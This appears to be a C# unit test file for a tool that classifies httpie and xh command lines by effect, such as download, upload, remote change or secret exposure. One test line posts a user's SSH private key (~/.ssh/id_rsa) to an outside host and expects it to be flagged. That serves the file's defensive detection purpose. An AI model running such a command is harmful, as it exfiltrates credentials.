using Pharos.Shell.Effects;

namespace Pharos.Shell.Tests.Effects.Programs;

public sealed class HttpItemsTests
{
    [Theory]
    [InlineData("http https://example.com")]
    [InlineData("http GET https://example.com Accept:text/html page==2")]
    [InlineData("xh --headers https://example.com User-Agent:probe")]
    public void Asking_an_address_with_headers_sends_nothing(string line) =>
        Reads.Line(line).Effects.ShouldAllBe(static effect => effect.Kind == EffectKind.Download);

    [Theory]
    [InlineData("http https://example.com name=value")]
    [InlineData("http https://example.com count:=3")]
    [InlineData("http GET https://example.com name=value")]
    [InlineData("http https://example.com --raw text")]
    public void Data_among_the_items_leaves(string line) => Reads.Line(line).Effects.ShouldContain(static effect => effect.Kind == EffectKind.Upload);

    [Fact]
    public void A_file_among_the_items_is_read_and_sent() =>
        Reads.Line("http --form POST https://example.com cv@/home/dev/.ssh/id_rsa").Effects().ShouldContain("ExposeSecret Certain /home/dev/.ssh/id_rsa");

    [Theory]
    [InlineData("http DELETE https://example.com/1")]
    [InlineData("xh PUT https://example.com/1")]
    public void A_method_that_changes_is_a_change(string line) => Reads.Line(line).Effects.ShouldContain(static effect => effect.Kind == EffectKind.ChangeRemote);

    [Fact]
    public void A_request_that_is_only_printed_goes_nowhere() => Reads.Line("http --offline POST https://example.com a=b").Effects.ShouldBeEmpty();

    [Fact]
    public void A_bare_port_is_this_machine() => Reads.Line("http :3000/health").Effects().ShouldContain("Download Certain http://localhost:3000/health");
}
